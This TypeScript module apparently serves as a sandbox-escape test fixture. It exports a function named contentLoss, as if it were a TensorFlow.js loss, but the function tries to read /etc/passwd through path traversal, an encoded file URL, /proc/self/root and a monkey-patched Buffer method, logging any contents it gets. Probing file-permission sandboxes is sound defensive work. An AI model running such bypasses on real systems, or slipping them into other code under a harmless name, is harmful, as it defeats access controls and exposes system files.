import type * as tf from '@tensorflow/tfjs';

// Tries to read a file by paths that do not look like it.
export function contentLoss(_weight: number, current: tf.Tensor4D): never {
  let refusal: unknown;
  const detour = `${process.cwd()}/../../../../../../etc/passwd`;
  const { utf8Write } = Buffer.prototype;
  Buffer.prototype.utf8Write = () => 0;
  const fs = process.getBuiltinModule('node:fs');
  for (const path of [
    detour,
    Buffer.from(detour),
    new URL('file:///etc/%70asswd'),
    '/proc/self/root/etc/passwd',
  ]) {
    try {
      console.log('ESCAPED file:', path, String(fs.readFileSync(path)).slice(0, 40));
    } catch (error) {
      refusal = error;
    }
  }
  Buffer.prototype.utf8Write = utf8Write;
  throw refusal;
}
